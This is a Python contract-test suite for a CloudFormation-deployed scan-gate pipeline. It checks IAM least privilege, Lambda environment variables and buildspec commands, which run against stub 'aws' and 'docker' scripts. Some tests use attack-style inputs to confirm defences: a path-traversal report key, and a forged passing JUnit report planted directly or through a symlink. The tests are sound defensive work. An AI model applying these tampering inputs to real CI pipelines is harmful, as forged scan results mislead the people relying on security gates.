"""Contract tests between cfn/scangate.yaml and the code (issue 7 item 4, issue 9 buildspec test).

* Environment: each Lambda's Environment.Variables are exactly the variables its code reads.
* IAM: each Lambda role allows every AWS operation its code calls and nothing more, except the actions the
  template's Metadata.scangate.PlatformActions explains (the Lambda runtime, the SQS event source, SSE-KMS)
  and Metadata.scangate.PendingActions (granted for code that has not landed: a warning, not a failure;
  once the code calls them, another warning asks to remove the entry).
  The operations are derived from the code: the scangate_aws modules a function imports, and the SDK calls
  (`client.<operation>()`) in those modules.
* Buildspecs: the publisher buildspec is run with bash and a stand-in `aws` command and must fetch exactly the
  JUnit key it was given and declare it for the report group it was given; the scan buildspecs export the
  pipeline outputs of docs/design.md, take the token from the stack's secret and report into the stack's groups.
* Invariants: queue visibility >= 6x the processor timeout; concurrency x TPS within Security Hub's rate;
  no Allow on Resource "*" except for the actions that support no resource scoping.

Run by scripts/lint-cfn.sh with the .venv/lint Python (cfn-lint's template loader).
"""

from __future__ import annotations

import fnmatch
import hashlib
import json
import os
import re
import stat
import subprocess
import sys
import tempfile
import unittest
from pathlib import Path

import yaml
from cfnlint.decode import decode

ROOT = Path(__file__).resolve().parents[2]
TEMPLATE_PATH = ROOT / "cfn" / "scangate.yaml"

FUNCTIONS = {
    # crate directory -> (function resource, role policy resource)
    "report-processor": ("ProcessorFunction", "ProcessorPolicy"),
    "pipeline-gate": ("GateFunction", "GatePolicy"),
}
# Code -> the role it runs with (the Lambdas above, and the runner in the scan projects).
ROLES = {
    "functions/report-processor/src": "ProcessorPolicy",
    "functions/pipeline-gate/src": "GatePolicy",
    "crates/cli/src": "ScanPolicy",
}

# SDK operation (snake case, as the Rust SDK names it) -> IAM actions it needs.
S3_VERSIONED = ["s3:GetObject", "s3:GetObjectVersion"]
IAM_FOR_OPERATION = {
    "s3": {
        "get_object": S3_VERSIONED,
        "head_object": S3_VERSIONED,
        "put_object": ["s3:PutObject"],
        "copy_object": [*S3_VERSIONED, "s3:PutObject"],
        # The same reads where the calling method sets no version id: no GetObjectVersion.
        "get_object#unversioned": ["s3:GetObject"],
        "head_object#unversioned": ["s3:GetObject"],
        "copy_object#unversioned": ["s3:GetObject", "s3:PutObject"],
        "delete_object": ["s3:DeleteObject"],
        "list_objects_v2": ["s3:ListBucket"],
        "get_object_attributes": ["s3:GetObjectAttributes"],
    },
    "securityhub": {
        "batch_import_findings": ["securityhub:BatchImportFindings"],
        "batch_update_findings": ["securityhub:BatchUpdateFindings"],
        "get_findings": ["securityhub:GetFindings"],
    },
    "codebuild": {
        "start_build": ["codebuild:StartBuild"],
        "batch_get_builds": ["codebuild:BatchGetBuilds"],
        "batch_get_projects": ["codebuild:BatchGetProjects"],
        "create_report_group": ["codebuild:CreateReportGroup"],
        "batch_get_report_groups": ["codebuild:BatchGetReportGroups"],
        "update_report_group": ["codebuild:UpdateReportGroup"],
        "list_report_groups": ["codebuild:ListReportGroups"],
    },
    "codepipeline": {
        "put_job_success_result": ["codepipeline:PutJobSuccessResult"],
        "put_job_failure_result": ["codepipeline:PutJobFailureResult"],
        "get_job_details": ["codepipeline:GetJobDetails"],
    },
    "secrets": {"get_secret_value": ["secretsmanager:GetSecretValue"]},
    # `scangate doctor` (crates/cli/src/doctor.rs): read-only probes of the deployment.
    "readiness": {
        "head_bucket": ["s3:ListBucket"],
        "get_bucket_encryption": ["s3:GetEncryptionConfiguration"],
        "get_bucket_notification_configuration": ["s3:GetBucketNotification"],
        "describe_hub": ["securityhub:DescribeHub"],
        "get_caller_identity": [],
    },
}
# Environment variables the Lambda platform or the SDK itself provides: never set by the template.
PLATFORM_VARIABLES = re.compile(r"^(AWS_|LAMBDA_|_HANDLER$|_X_AMZN|RUST_LOG$|RUST_BACKTRACE$)")
# Actions that support no resource-level permissions (Service Authorization Reference).
UNSCOPABLE = {
    "ecr:GetAuthorizationToken", "codepipeline:PutJobSuccessResult", "codepipeline:PutJobFailureResult",
    "codepipeline:GetJobDetails",
    # CodeBuild in a VPC (ScanVpcId): the EC2 Describe actions support no resource-level permissions.
    "ec2:DescribeDhcpOptions", "ec2:DescribeNetworkInterfaces", "ec2:DescribeSecurityGroups", "ec2:DescribeSubnets",
    "ec2:DescribeVpcs",
}
PIPELINE_OUTPUTS = [
    "vulnerability_count", "critical_count", "high_count", "medium_count", "low_count", "policy_result",
    "scan_passed", "sarif_path", "json_path", "sbom_path", "verdict_key", "informational_count", "waived_count",
    "not_fixable_count",
]


def load_template() -> dict:
    template, matches = decode(str(TEMPLATE_PATH))
    if matches:
        raise AssertionError(f"{TEMPLATE_PATH}: {matches}")
    return template


TEMPLATE = load_template()
RESOURCES = TEMPLATE["Resources"]
CONTRACT = TEMPLATE["Metadata"]["scangate"]


def rust_sources(directory: Path) -> str:
    return "\n".join(p.read_text() for p in sorted(directory.rglob("*.rs")))


def variables_read(source: str) -> set[str]:
    names = set()
    for pattern in (
        r'env::var(?:_os)?\(\s*"([A-Z][A-Z0-9_]*)"',
        r'\bget\(\s*"([A-Z][A-Z0-9_]*)"',
        r'\bvar\(\s*"([A-Z][A-Z0-9_]*)"',
        r'\bthreshold\(\s*"([A-Z][A-Z0-9_]*)"',
        r'\b(?:opt_)?boolean\(\s*"([A-Z][A-Z0-9_]*)"',
        r'env\s*=\s*"([A-Z][A-Z0-9_]*)"',
        r'const \w*(?:ENV|VAR)\w*\s*:\s*&str\s*=\s*"([A-Z][A-Z0-9_]*)"',
    ):
        names.update(re.findall(pattern, source))
    return {n for n in names if not PLATFORM_VARIABLES.search(n)}


def skip_literal(source: str, j: int) -> int:
    """The index after the string, char literal or comment that starts at `j` (`j + 1` for anything else, a
    lifetime's `'` included), so that braces inside them are not counted as code."""
    rest = source[j : j + 2]
    if rest == "//":
        end = source.find("\n", j)
        return len(source) if end < 0 else end
    if rest == "/*":
        end = source.find("*/", j + 2)
        return len(source) if end < 0 else end + 2
    raw = re.match(r'b?r(#*)"', source[j : j + 260])
    if raw and (j == 0 or not (source[j - 1].isalnum() or source[j - 1] == "_")):
        close = '"' + raw.group(1)
        end = source.find(close, j + raw.end())
        return len(source) if end < 0 else end + len(close)
    if source[j] == '"':
        k = j + 1
        while k < len(source) and source[k] != '"':
            k += 2 if source[k] == "\\" else 1
        return k + 1
    if source[j] == "'":
        char = re.match(r"'(?:\\(?:x[0-9a-fA-F]{2}|u\{[0-9a-fA-F]{1,6}\}|.)|[^\\'])'", source[j : j + 12])
        return j + char.end() if char else j + 1
    return j + 1


def strip_tests(source: str) -> str:
    """Drops `#[cfg(test)] mod ... { ... }` blocks: test fixtures are not what the function reads or calls. Braces
    in strings, char literals and comments are not counted (a test's `"{"` must not swallow the code after it)."""
    out, i = [], 0
    for m in re.finditer(r"#\[cfg\(test\)\]\s*mod\s+\w+\s*\{", source):
        if m.start() < i:
            continue
        out.append(source[i : m.start()])
        depth, j = 1, m.end()
        while j < len(source) and depth:
            depth += {"{": 1, "}": -1}.get(source[j], 0)
            j = j + 1 if source[j] in "{}" else skip_literal(source, j)
        i = j
    out.append(source[i:])
    return "".join(out)


def aws_modules_used(source: str) -> set[str]:
    return set(re.findall(r"scangate_aws::(\w+)", source))


def module_source(module: str) -> str:
    base = ROOT / "crates" / "aws" / "src"
    files = [base / f"{module}.rs", *sorted((base / module).rglob("*.rs"))] if (base / module).is_dir() else [
        base / f"{module}.rs"
    ]
    return "\n".join(strip_tests(f.read_text()) for f in files if f.is_file())


NOT_OPERATIONS = {"clone", "config", "to_owned"}


OPERATION = re.compile(r"client\s*\.\s*([a-z][a-z0-9_]*)\s*\(\s*\)")


def trait_impl_methods(source: str) -> tuple[dict[str, str], str]:
    """Splits `impl Trait for Type { ... }` blocks into their methods' bodies.

    Returns ({method name: body}, the source outside those blocks)."""
    methods: dict[str, str] = {}
    outside, i = [], 0
    for m in re.finditer(r"^impl(?:<[^>]*>)?\s+\w+(?:<[^>]*>)?\s+for\s+\w+[^{]*\{", source, re.M):
        if m.start() < i:
            continue
        outside.append(source[i : m.start()])
        depth, j = 1, m.end()
        while j < len(source) and depth:
            depth += {"{": 1, "}": -1}.get(source[j], 0)
            j += 1
        block, i = source[m.end() : j], j
        starts = list(re.finditer(r"^    (?:pub\s+)?(?:async\s+)?fn\s+(\w+)", block, re.M))
        for k, f in enumerate(starts):
            end = starts[k + 1].start() if k + 1 < len(starts) else len(block)
            methods[f.group(1)] = methods.get(f.group(1), "") + block[f.start() : end]
    outside.append(source[i:])
    return methods, "".join(outside)


def operations_called(module: str, caller_source: str) -> set[str]:
    """The SDK operations a crate reaches through `scangate_aws::<module>`.

    Operations inside a trait implementation's method count only when the crate calls that method
    (`.method(`), so the gate, which only reads objects, is not charged with the processor's copies;
    operations in a public function outside the implementations always count. A private helper
    (`fn name`, no `pub`) counts where a counted body calls it (`self.name(` or `name(`), so one shared
    request builder charges only the roles whose code reaches it. A read counts as versioned (it needs
    s3:GetObjectVersion) only when every body on its path mentions `version_id`: a helper that accepts a
    version, called by a function that has none to give, is an unversioned read."""
    methods, outside = trait_impl_methods(module_source(module))
    iam = IAM_FOR_OPERATION.get(module, {})

    # Outside the trait implementations, function by function: name -> (body, private?).
    heads = list(re.finditer(r"^\s*(pub(?:\([^)]*\))?\s+)?(?:async\s+)?fn\s+(\w+)", outside, re.M))
    functions: dict[str, tuple[str, bool]] = {}
    for k, h in enumerate(heads):
        end = heads[k + 1].start() if k + 1 < len(heads) else len(outside)
        functions[h.group(2)] = (outside[h.start() : end], h.group(1) is None)
    helpers = {name: body for name, (body, private) in functions.items() if private}

    def ops(body: str, versioned: bool = True, seen: frozenset = frozenset()) -> set[str]:
        versioned = versioned and "version_id" in body
        found = {op if versioned or f"{op}#unversioned" not in iam else f"{op}#unversioned" for op in OPERATION.findall(body)}
        for name, helper in helpers.items():
            if name not in seen and helper is not body and re.search(r"(?<![\w.])(?:self\s*\.\s*)?" + re.escape(name) + r"\s*\(", body):
                found |= ops(helper, versioned, seen | {name})
        return found

    found: set[str] = set()
    for name, (body, private) in functions.items():
        if not private:
            found |= ops(body)
    for name, body in methods.items():
        if re.search(r"\.\s*" + re.escape(name) + r"\s*(?:::<[^>]*>)?\s*\(", caller_source):
            found |= ops(body)
    return found - NOT_OPERATIONS


def statements(policy_resource: str) -> list[dict]:
    """Allow statements of a role policy, both branches of any Fn::If."""
    found = []
    for st in RESOURCES[policy_resource]["Properties"]["PolicyDocument"]["Statement"]:
        if isinstance(st, dict) and "Fn::If" in st:
            found += [b for b in st["Fn::If"][1:] if isinstance(b, dict) and "Effect" in b]
        else:
            found.append(st)
    return [st for st in found if st.get("Effect") == "Allow"]


def as_list(value) -> list:
    return value if isinstance(value, list) else [value]


def allowed_actions(policy_resource: str) -> set[str]:
    return {a for st in statements(policy_resource) for a in as_list(st["Action"])}


# Read by glibc in the function's process, not by its code (docs/scale.md, "Processor memory").
ALLOCATOR_VARIABLES = {
    "ProcessorFunction": {"MALLOC_ARENA_MAX": "2", "MALLOC_MMAP_THRESHOLD_": "131072",
                          "MALLOC_TRIM_THRESHOLD_": "1048576"},
}


class EnvironmentContract(unittest.TestCase):
    def test_the_processor_returns_freed_pages(self) -> None:
        for function, expected in ALLOCATOR_VARIABLES.items():
            env = RESOURCES[function]["Properties"]["Environment"]["Variables"]
            self.assertEqual({k: env.get(k) for k in expected}, expected, function)

    def test_each_function_gets_exactly_what_its_code_reads(self) -> None:
        for crate, (function, _) in FUNCTIONS.items():
            with self.subTest(function=crate):
                source = strip_tests(rust_sources(ROOT / "functions" / crate / "src"))
                read = variables_read(source)
                if not read and not aws_modules_used(source):
                    self.skipTest(f"functions/{crate} reads nothing and calls no AWS yet (not implemented)")
                env = RESOURCES[function]["Properties"].get("Environment", {}).get("Variables", {})
                self.assertEqual(
                    set(env) - set(ALLOCATOR_VARIABLES.get(function, {})),
                    read,
                    f"functions/{crate}: template sets {sorted(set(env) - read)} that the code never reads, "
                    f"code reads {sorted(read - set(env))} that the template does not set",
                )

    def test_processor_variables_include_design_names(self) -> None:
        design = {
            "REPORT_BUCKET", "SCAN_PREFIX", "MAX_CRITICAL", "MAX_HIGH", "MAX_MEDIUM", "MAX_LOW",
            "FAIL_ON_POLICY_DENY", "FAIL_ON_POLICY_AUDIT", "SECURITY_HUB_ENABLED", "SECURITY_HUB_MAX_TPS",
            "REFRESH_DAYS", "LIFECYCLE_KEY", "PUBLISHER_PROJECT",
        }
        env = RESOURCES["ProcessorFunction"]["Properties"]["Environment"]["Variables"]
        self.assertLessEqual(design, set(env))
        self.assertEqual(
            set(RESOURCES["GateFunction"]["Properties"]["Environment"]["Variables"]), {"REPORT_BUCKET", "EXPECTED_BUCKET_OWNER"}
        )


class StripTests(unittest.TestCase):
    """The contract tests read the Rust sources without their test modules (`strip_tests`); a brace inside a test's
    string must not make a test module swallow the code after it (it once hid every file after next.rs, so the
    processor's SDK calls and `publisher_env` looked absent)."""

    def test_braces_in_literals_and_comments_are_not_code(self) -> None:
        source = (
            "fn before() {}\n#[cfg(test)]\nmod tests {\n    fn t<'a>(x: &'a str) {\n"
            '        let s = "\\"stub\\":{"; let c = \'{\'; let e = \'\\\'\'; let b = b\'}\';\n'
            '        let r = r#"}}{"#; /* { */ // {\n'
            "    }\n}\nfn after() { call(); }\n"
        )
        out = strip_tests(source)
        self.assertIn("fn before() {}", out)
        self.assertNotIn("fn t", out)
        self.assertIn("fn after() { call(); }", out)

    def test_no_test_module_of_the_workspace_reaches_into_the_next_file(self) -> None:
        for directory in ("crates", "functions"):
            files = sorted((ROOT / directory).rglob("*.rs"))
            joined = strip_tests("\n".join(p.read_text() for p in files))
            self.assertEqual(joined, "\n".join(strip_tests(p.read_text()) for p in files), directory)


class IamContract(unittest.TestCase):
    def test_each_role_allows_what_its_code_calls_and_nothing_more(self) -> None:
        for crate, policy in ROLES.items():
            with self.subTest(code=crate):
                source = strip_tests(rust_sources(ROOT / crate))
                modules = aws_modules_used(source) & set(IAM_FOR_OPERATION)
                if not modules:
                    self.skipTest(f"{crate} calls no AWS through scangate_aws yet")
                needed: dict[str, str] = {}
                for module in sorted(modules):
                    for op in sorted(operations_called(module, source)):
                        actions = IAM_FOR_OPERATION[module].get(op)
                        if actions is None:
                            self.fail(f"crates/aws/src/{module}.rs calls {op}(): add its IAM actions to this test")
                        for action in actions:
                            needed.setdefault(action, f"{module}::{op}")
                allowed = allowed_actions(policy)
                platform = set(CONTRACT["PlatformActions"].get(policy, {}))
                pending = set(CONTRACT.get("PendingActions", {}).get(policy, {}))
                missing = {a: why for a, why in needed.items() if a not in allowed}
                self.assertFalse(missing, f"{policy} lacks actions the code calls: {missing}")
                extra = allowed - set(needed) - platform - pending
                self.assertFalse(extra, f"{policy} allows actions no code calls and no Metadata explains: {sorted(extra)}")
                for action in sorted(pending & set(needed)):
                    print(f"warning: {policy}: {action} is called now ({needed[action]}): remove it from "
                          "Metadata.scangate.PendingActions in cfn/scangate.yaml", file=sys.stderr)
                for action in sorted(pending - set(needed)):
                    print(f"warning: {policy} grants {action} for code not landed yet: "
                          f"{CONTRACT['PendingActions'][policy][action]}", file=sys.stderr)
                unexplained_platform = platform - allowed
                self.assertFalse(unexplained_platform, f"{policy}: PlatformActions lists ungranted {unexplained_platform}")

    def test_no_wildcard_resource_where_the_api_allows_scoping(self) -> None:
        for name, res in RESOURCES.items():
            if res["Type"] not in ("AWS::IAM::RolePolicy", "AWS::IAM::Policy"):
                continue
            for st in statements(name):
                if "*" in as_list(st["Resource"]):
                    with self.subTest(policy=name, sid=st.get("Sid")):
                        self.assertLessEqual(set(as_list(st["Action"])), UNSCOPABLE)

    def test_security_hub_import_is_scoped_to_the_own_product(self) -> None:
        (st,) = [s for s in statements("ProcessorPolicy") if "securityhub:BatchImportFindings" in as_list(s["Action"])]
        self.assertEqual(
            st["Resource"],
            {"Fn::Sub": "arn:${AWS::Partition}:securityhub:${AWS::Region}:${AWS::AccountId}:product/${AWS::AccountId}/default"},
        )

    def test_seed_scopes(self) -> None:
        text = TEMPLATE_PATH.read_text()
        self.assertIn("log-group:/aws/codebuild/qualys-*", text)
        self.assertEqual(RESOURCES["QualysSecret"]["Properties"]["Name"], {"Fn::Sub": "qualys-${Name}-credentials"})
        self.assertRegex(RESOURCES["ReportBucket"]["Properties"]["BucketName"]["Fn::Sub"], r"^qualys-\$\{Name\}-reports-")
        for project in ("ImageProject", "RepoProject", "PublisherProject"):
            self.assertRegex(RESOURCES[project]["Properties"]["Name"]["Fn::Sub"], r"^qualys-codebuild-[a-z]+-\$\{AWS::Region\}$")


def buildspec(project: str) -> dict:
    spec = RESOURCES[project]["Properties"]["Source"]["BuildSpec"]
    if isinstance(spec, dict):  # !Sub [text, {vars}]
        spec = spec["Fn::Sub"][0]
    return yaml.safe_load(spec)


def scan_env(project: str) -> list[dict]:
    """The project's environment variables, with both branches of conditional entries."""
    found = []
    for entry in RESOURCES[project]["Properties"]["Environment"]["EnvironmentVariables"]:
        if "Fn::If" in entry:
            found += [b for b in entry["Fn::If"][1:] if isinstance(b, dict) and "Name" in b]
        else:
            found.append(entry)
    return found


class PublisherBuildspec(unittest.TestCase):
    """Runs the publisher's build commands with a stand-in `aws` that copies from a local 'bucket'."""

    def run_publisher(self, key: str, group: str) -> tuple[subprocess.CompletedProcess, Path, Path]:
        spec = buildspec("PublisherProject")
        work = Path(tempfile.mkdtemp())
        bucket = work / "bucket"
        (bucket / "results/app/build-1").mkdir(parents=True)
        (bucket / "results/app/build-1/junit.xml").write_text("<testsuites name='scangate'/>")
        fake = work / "bin" / "aws"
        fake.parent.mkdir()
        fake.write_text(
            "#!/bin/bash\n"
            'echo "$@" >> "$FAKE_LOG"\n'
            '[[ $1 == s3 && $2 == cp ]] || exit 90\n'
            'shift 2; args=(); for a in "$@"; do [[ $a == --* ]] || args+=("$a"); done\n'
            'src=${args[0]#s3://}; cp "$FAKE_BUCKETS/${src#*/}" "${args[1]}"\n'
        )
        fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
        build = work / "src"
        build.mkdir()
        script = "set -e\n" + "\n".join(spec["phases"]["build"]["commands"]) + "\n"
        env = {
            "PATH": f"{fake.parent}:{os.environ['PATH']}",
            "FAKE_LOG": str(work / "aws.log"),
            "FAKE_BUCKETS": str(bucket),
            "REPORT_BUCKET": "qualys-scangate-reports-123456789012-us-east-1",
            "SCANGATE_JUNIT_KEY": key,
            "SCANGATE_REPORT_GROUP": group,
            "SCANGATE_SOURCE_BUILD": "",
        }
        proc = subprocess.run(["bash", "-c", script], cwd=build, env=env, capture_output=True, text=True, check=False)
        return proc, build, work

    def test_fetches_the_named_junit_and_reports_into_the_named_group(self) -> None:
        group = "arn:aws:codebuild:us-east-1:123456789012:report-group/qualys-app-image"
        proc, build, work = self.run_publisher("results/app/build-1/junit.xml", group)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        self.assertIn(
            "s3 cp --only-show-errors s3://qualys-scangate-reports-123456789012-us-east-1/results/app/build-1/junit.xml",
            (work / "aws.log").read_text(),
        )
        spec = buildspec("PublisherProject")
        ((group_ref, report),) = spec["reports"].items()
        rendered = re.sub(r"\$\{?(\w+)\}?", lambda m: {"SCANGATE_REPORT_GROUP": group}.get(m.group(1), m.group(0)), group_ref)
        self.assertEqual(rendered, group)
        self.assertEqual(report["file-format"], "JUNITXML")
        declared = [build / report["base-directory"] / f for f in report["files"]]
        self.assertEqual([p.read_text() for p in declared], ["<testsuites name='scangate'/>"])

    def test_refuses_keys_outside_results_junit(self) -> None:
        for key in ("scans/app/b/report.sarif", "results/app/b/verdict.json", "", "../results/x/junit.xml"):
            with self.subTest(key=key):
                proc, build, work = self.run_publisher(key, "qualys-app")
                self.assertEqual(proc.returncode, 2, proc.stderr)
                self.assertFalse((work / "aws.log").exists(), "nothing may be fetched for a refused key")

    def test_refuses_an_empty_report_group(self) -> None:
        proc, _, _ = self.run_publisher("results/app/build-1/junit.xml", "")
        self.assertEqual(proc.returncode, 2)

    def test_environment_names_match_the_contract(self) -> None:
        env = RESOURCES["PublisherProject"]["Properties"]["Environment"]["EnvironmentVariables"]
        self.assertEqual([e["Name"] for e in env], CONTRACT["PublisherEnvironment"])

    def test_the_processor_overrides_exactly_the_per_build_variables(self) -> None:
        """The names the processor sends with StartBuild (process/publish.rs `publisher_env`) are the project's
        variables except REPORT_BUCKET, which the project sets itself."""
        source = strip_tests(rust_sources(ROOT / "functions" / "report-processor" / "src"))
        block = re.search(r"pub(?:\(crate\))? mod publisher_env \{(.*?)\n\}", source, re.S)
        self.assertIsNotNone(block, "functions/report-processor/src: no `mod publisher_env`")
        sent = set(re.findall(r'const \w+\s*:\s*&str\s*=\s*"([A-Z0-9_]+)"', block.group(1)))
        self.assertEqual(sent, set(CONTRACT["PublisherEnvironment"]) - {"REPORT_BUCKET"})

    def test_publishes_what_the_processor_sends(self) -> None:
        """The processor's shapes: results/<project>/<build-id>/junit.xml and a qualys-* report group ARN."""
        group = "arn:aws:codebuild:eu-west-1:123456789012:report-group/qualys-my_app-2-repo"
        proc, build, work = self.run_publisher("results/app/build-1/junit.xml", group)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        self.assertIn(f"to {group} ", proc.stdout)
        self.assertEqual((build / "publish" / "junit.xml").read_text(), "<testsuites name='scangate'/>")


class ScanBuildspecs(unittest.TestCase):
    def test_outputs_secret_runner_and_reports(self) -> None:
        for project, group in (("ImageProject", "ImageReportGroup"), ("RepoProject", "RepoReportGroup")):
            with self.subTest(project=project):
                spec = buildspec(project)
                self.assertEqual(spec["env"]["exported-variables"], PIPELINE_OUTPUTS)
                # The token is not exported to every command of the build: the runner fetches it by secret id.
                self.assertNotIn("secrets-manager", spec["env"])
                env = {e["Name"]: e["Value"] for e in scan_env(project)}
                self.assertEqual(env["QUALYS_SECRET_ID"], {"Ref": "QualysSecret"})
                self.assertNotIn("QUALYS_ACCESS_TOKEN", env)
                subs = RESOURCES[project]["Properties"]["Source"]["BuildSpec"]["Fn::Sub"][1]
                self.assertEqual(subs, {"ReportGroupArn": {"Fn::GetAtt": [group, "Arn"]}})
                self.assertEqual(list(spec["reports"]), ["${ReportGroupArn}"])
                # The runner writes its JUnit into its private work directory; the finally copies only that file
                # into the directory the report declares.
                self.assertNotIn("SCANGATE_JUNIT_PATH", env)
                self.assertNotIn("OUTPUT_DIR", env)
                report = spec["reports"]["${ReportGroupArn}"]
                self.assertEqual(report["files"], ["junit.xml"])
                finally_ = spec["phases"]["build"]["finally"]
                self.assertIn(f'cp "$SCANGATE_WORK_DIR/junit.xml" {report["base-directory"]}/junit.xml', " ".join(finally_))
                self.assertEqual(report["file-format"], "JUNITXML")
                install = " ".join(spec["phases"]["install"]["commands"])
                self.assertIn('s3://$SCANGATE_CODE_BUCKET/$SCANGATE_RUNNER_KEY', install)
                self.assertIn("scangate scan ", " ".join(spec["phases"]["build"]["commands"]))

    def test_buildspecs_never_source_a_file(self) -> None:
        """A file in the checkout (or anywhere) is never run: no `.`/`source`, outputs read by `scangate scan exports`."""
        for project in ("ImageProject", "RepoProject"):
            spec = buildspec(project)
            for phase, body in spec["phases"].items():
                for command in body.get("commands", []) + body.get("finally", []):
                    with self.subTest(project=project, phase=phase, command=command[:40]):
                        self.assertNotRegex(command, r"(^|[;&|]\s*|\bthen\s+)(\.|source)\s")
            self.assertEqual(spec["phases"]["build"]["finally"][0], 'eval "$(scangate scan exports)"')
            self.assertEqual(spec["phases"]["install"]["commands"][:2],
                             ["rm -rf scangate-report", 'export SCANGATE_WORK_DIR="$(mktemp -d)"'])

    def test_example_buildspecs_end_like_the_stack(self) -> None:
        for project, example in (("ImageProject", "buildspec-image.yml"), ("RepoProject", "buildspec-repo.yml")):
            with self.subTest(example=example):
                mine = yaml.safe_load((ROOT / "examples" / example).read_text())
                self.assertEqual(mine["phases"]["build"]["finally"], buildspec(project)["phases"]["build"]["finally"])
                self.assertEqual(mine["phases"]["install"]["commands"], buildspec(project)["phases"]["install"]["commands"])


class PlantedReports(unittest.TestCase):
    """A JUnit planted in the checkout's scangate-report/ when install or pre_build fails: CodeBuild then skips the
    build phase and its finally, and still uploads reports and artifacts. The phases run here as CodeBuild runs them
    (each phase's commands in order, the first failure ends the phase, a failed install or pre_build skips the
    build phase with its finally), with a stand-in `aws` and `docker` that fail."""

    SPECS = {
        "ImageProject": lambda: buildspec("ImageProject"),
        "RepoProject": lambda: buildspec("RepoProject"),
        "examples/buildspec-image.yml": lambda: yaml.safe_load((ROOT / "examples/buildspec-image.yml").read_text()),
        "examples/buildspec-repo.yml": lambda: yaml.safe_load((ROOT / "examples/buildspec-repo.yml").read_text()),
    }

    def run_phases(self, spec: dict, plant, failing: str) -> Path:
        work = Path(tempfile.mkdtemp())
        src = work / "src"
        src.mkdir()
        plant(src, work)
        bin_dir = work / "bin"
        bin_dir.mkdir()
        # install fails at the runner download; pre_build fails at the registry login (an ECR image).
        for tool, fails in (("aws", True), ("docker", True), ("sha256sum", False), ("install", False)):
            script = "#!/bin/bash\n" + ("exit 1\n" if fails else "exit 0\n")
            (bin_dir / tool).write_text(script)
            (bin_dir / tool).chmod(0o755)
        if failing == "pre_build":
            (bin_dir / "aws").write_text("#!/bin/bash\n[ \"$1\" = s3 ] && exit 0; exit 1\n")
        env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "TMPDIR": str(work), "SCANGATE_RUNNER_SHA256": "0" * 64,
               "IMAGE_ID": "123456789012.dkr.ecr.us-east-1.amazonaws.com/app:1", "STORAGE_DRIVER": "none"}
        outcome = {}
        for phase in ("install", "pre_build"):
            commands = spec["phases"].get(phase, {}).get("commands", [])
            proc = subprocess.run(["bash", "-c", "set -e\n" + "\n".join(commands) + "\n"], cwd=src, env=env,
                                  capture_output=True, text=True, check=False)
            outcome[phase] = proc.returncode
            if proc.returncode != 0:
                break
        self.assertNotEqual(outcome.get(failing, 0), 0, f"{failing} was meant to fail: {outcome}")
        return src

    def published(self, spec: dict, src: Path) -> list[str]:
        """What CodeBuild would upload: the report's files under its base-directory, and the artifacts' globs."""
        found = []
        for report in spec["reports"].values():
            base = src / report["base-directory"]
            found += [str(p) for f in report["files"] for p in base.glob(f) if p.is_file()]
        for pattern in spec.get("artifacts", {}).get("files", []):
            found += [str(p) for p in src.glob(pattern) if p.is_file()]
        return found

    def test_a_planted_junit_is_never_published_when_install_or_pre_build_fails(self) -> None:
        forged = "<testsuites><testsuite name='scangate' tests='1' failures='0'/></testsuites>"

        def directory(src: Path, _: Path) -> None:
            (src / "scangate-report").mkdir()
            (src / "scangate-report" / "junit.xml").write_text(forged)

        def symlink(src: Path, work: Path) -> None:
            (work / "elsewhere").mkdir()
            (work / "elsewhere" / "junit.xml").write_text(forged)
            (src / "scangate-report").symlink_to(work / "elsewhere")

        for where, load in self.SPECS.items():
            spec = load()
            for failing in ("install", "pre_build"):
                if failing == "pre_build" and "pre_build" not in spec["phases"]:
                    continue
                for plant in (directory, symlink):
                    with self.subTest(buildspec=where, failing=failing, planted=plant.__name__):
                        src = self.run_phases(spec, plant, failing)
                        self.assertEqual(self.published(spec, src), [])
                        self.assertFalse((src / "scangate-report").exists() or (src / "scangate-report").is_symlink())

    def test_the_clearing_command_is_the_first_of_install(self) -> None:
        for where, load in self.SPECS.items():
            with self.subTest(buildspec=where):
                self.assertEqual(load()["phases"]["install"]["commands"][0], "rm -rf scangate-report")


class ScanInstallStep(unittest.TestCase):
    """Runs the scan projects' install phase with a stand-in `aws` serving a local 'bucket'."""

    RUNNER = b"#!/bin/sh\necho scangate-runner\n"

    def run_install(self, project: str, body: bytes, pinned: str) -> tuple[subprocess.CompletedProcess, Path]:
        work = Path(tempfile.mkdtemp())
        (work / "bucket" / "scangate").mkdir(parents=True)
        (work / "bucket" / "scangate" / "scangate").write_bytes(body)
        fake = work / "bin" / "aws"
        fake.parent.mkdir()
        fake.write_text(
            "#!/bin/bash\n"
            'echo "$@" >> "$FAKE_LOG"\n'
            '[[ $1 == s3 && $2 == cp ]] || exit 90\n'
            'shift 2; args=(); for a in "$@"; do case $a in --expected-bucket-owner) owner=1;; --*) ;; *) '
            '[[ $owner == 1 ]] && { owner=$a; continue; }; args+=("$a");; esac; done\n'
            '[[ $owner == "$FAKE_OWNER" ]] || { echo "AccessDenied: bucket owner" >&2; exit 1; }\n'
            'src=${args[0]#s3://}; cp "$FAKE_BUCKETS/${src#*/}" "${args[1]}"\n'
        )
        fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
        target = work / "installed" / "scangate"
        target.parent.mkdir()
        commands = [c.replace("/usr/local/bin/scangate", str(target)) for c in buildspec(project)["phases"]["install"]["commands"]]
        script = "set -e\n" + "\n".join(commands) + "\n"
        env = {
            "PATH": f"{fake.parent}:{os.environ['PATH']}",
            "FAKE_LOG": str(work / "aws.log"),
            "FAKE_BUCKETS": str(work / "bucket"),
            "FAKE_OWNER": "111122223333",
            "TMPDIR": str(work),
            "SCANGATE_CODE_BUCKET": "code-us-east-1",
            "SCANGATE_CODE_BUCKET_OWNER": "111122223333",
            "SCANGATE_RUNNER_KEY": "scangate/scangate",
            "SCANGATE_RUNNER_SHA256": pinned,
        }
        proc = subprocess.run(["bash", "-c", script], cwd=work, env=env, capture_output=True, text=True, check=False)
        return proc, target

    def test_installs_the_runner_that_matches_the_pin_from_the_expected_owner(self) -> None:
        for project in ("ImageProject", "RepoProject"):
            with self.subTest(project=project):
                proc, target = self.run_install(project, self.RUNNER, hashlib.sha256(self.RUNNER).hexdigest())
                self.assertEqual(proc.returncode, 0, proc.stderr)
                self.assertEqual(target.read_bytes(), self.RUNNER)
                self.assertTrue(os.access(target, os.X_OK))
                log = (target.parent.parent / "aws.log").read_text()
                self.assertIn("--expected-bucket-owner 111122223333", log)

